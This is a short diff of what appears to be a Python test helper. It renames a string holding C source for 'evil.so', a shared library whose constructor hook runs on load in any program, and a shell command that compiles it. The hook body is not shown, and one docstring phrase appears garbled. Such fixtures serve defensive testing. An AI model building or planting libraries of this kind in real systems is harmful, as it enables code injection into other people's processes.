@@ -32,7 +32,7 @@ chmod 755 {FORGER}
 """
 
 
-_EVIL_C = """\
+EVIL_C = """\
 #include <fcntl.h>
 #include <unistd.h>
 __attribute__((constructor)) static void hook(void) {
@@ -42,7 +42,7 @@ __attribute__((constructor)) static void hook(void) {
 """
 
 EVIL_LIBRARY = (
-    f"[ -e evil.so ] || cc -shared -fPIC -o evil.so -xc - 2>/dev/null <<'C_ENDS'\n{_EVIL_C}C_ENDS\n[ -e evil.so ]"
+    f"[ -e evil.so ] || cc -shared -fPIC -o evil.so -xc - 2>/dev/null <<'C_ENDS'\n{EVIL_C}C_ENDS\n[ -e evil.so ]"
 )
 """Makes ``evil.so``, which pays itself from every program that loads it; fails where there is no compiler."""
 
